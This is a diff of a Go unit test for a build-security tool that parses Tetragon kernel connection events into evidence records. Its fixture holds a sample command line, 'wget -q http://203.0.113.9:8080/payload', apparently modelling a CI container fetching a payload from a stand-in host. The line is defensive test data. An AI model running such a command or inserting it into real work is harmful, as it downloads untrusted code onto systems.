@@ -1,6 +1,7 @@
-package evidence
+package nodereport
 
 import (
+	"buildguard.dev/buildguard/evidence"
 	"reflect"
 	"strings"
 	"testing"
@@ -24,19 +25,19 @@ func TestParseTetragon(t *testing.T) {
 		cid    = "6d381be6459ed1b24792d5a84343359c1452336d45b441b34c3cb16e2612360c"
 		sock   = `{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","mark":0,"priority":0,"saddr":"10.244.3.17","daddr":"203.0.113.9","sport":43210,"dport":8080,"cookie":"18446635827187264768","state":"TCP_SYN_SENT"}}`
 	)
-	wget := Connection{Source: "tetragon", EventID: execID + "/" + when, Node: "worker-3", Time: wantTime(when), Process: "wget", PID: 48213,
+	wget := evidence.Connection{Source: "tetragon", EventID: execID + "/" + when, Node: "worker-3", Time: wantTime(when), Process: "wget", PID: 48213,
 		Cmdline: "/usr/bin/wget -q http://203.0.113.9:8080/payload", ContainerID: cid, DestIP: wantIP("203.0.113.9"), DestPort: 8080}
-	one := func(c Connection) Parsed {
-		return Parsed{Report: Report{Node: "worker-3", Sensor: "tetragon", Connections: []Connection{c}}}
+	one := func(c evidence.Connection) Parsed {
+		return Parsed{Report: evidence.Report{Node: "worker-3", Sensor: "tetragon", Connections: []evidence.Connection{c}}}
 	}
-	with := func(f func(*Connection)) Connection {
+	with := func(f func(*evidence.Connection)) evidence.Connection {
 		c := wget
 		f(&c)
 		return c
 	}
-	ignored := Parsed{Report: Report{Sensor: "tetragon"}, Ignored: 1}
+	ignored := Parsed{Report: evidence.Report{Sensor: "tetragon"}, Ignored: 1}
 	failed := func(reason string) Parsed {
-		return Parsed{Report: Report{Sensor: "tetragon"}, Errors: []ItemError{{0, reason}}}
+		return Parsed{Report: evidence.Report{Sensor: "tetragon"}, Errors: []ItemError{{0, reason}}}
 	}
 	noExecID := strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"exec_id":"`+execID+`",`, "", 1)
 	noNode := strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"node_name":"worker-3",`, "", 1)
@@ -49,10 +50,10 @@ func TestParseTetragon(t *testing.T) {
 		{name: "tcp_connect", body: tetragonKprobeJSON("tcp_connect", sock), want: one(wget)},
 		{name: "IPv4-mapped daddr", body: tetragonKprobeJSON("tcp_connect", strings.Replace(sock, `"203.0.113.9"`, `"::ffff:203.0.113.9"`, 1)), want: one(wget)},
 		{name: "sys_connect with sockaddr_arg", body: tetragonKprobeJSON("__x64_sys_connect", `{"int_arg":5},{"sockaddr_arg":{"family":"AF_INET6","addr":"2001:db8::9","port":443}}`),
-			want: one(with(func(c *Connection) { c.DestIP, c.DestPort = wantIP("2001:db8::9"), 443 }))},
+			want: one(with(func(c *evidence.Connection) { c.DestIP, c.DestPort = wantIP("2001:db8::9"), 443 }))},
 		{name: "docker prefix without pod", body: strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"pod":{"namespace":"ci","name":"runner-5d8f7","container":{"id":"containerd://`+cid+`","name":"runner"}},`, "", 1),
-			want: one(with(func(c *Connection) { c.ContainerID = "6d381be6459ed1b24792d5a84343359" }))},
-		{name: "no exec_id", body: noExecID, want: one(with(func(c *Connection) { c.EventID = canonicalID("tetragon\n", []byte(noExecID)) }))},
+			want: one(with(func(c *evidence.Connection) { c.ContainerID = "6d381be6459ed1b24792d5a84343359" }))},
+		{name: "no exec_id", body: noExecID, want: one(with(func(c *evidence.Connection) { c.EventID = canonicalID("tetragon\n", []byte(noExecID)) }))},
 		{name: "node from the request", body: noNode, node: "worker-3", want: one(wget)},
 		{name: "unix socket", body: tetragonKprobeJSON("__sys_connect", `{"int_arg":5},{"sockaddr_arg":{"family":"AF_UNIX","addr":"/run/nscd/socket","port":0}}`), want: ignored},
 		{name: "tcp_sendmsg", body: tetragonKprobeJSON("tcp_sendmsg", sock+`,{"int_arg":517}`), want: ignored},
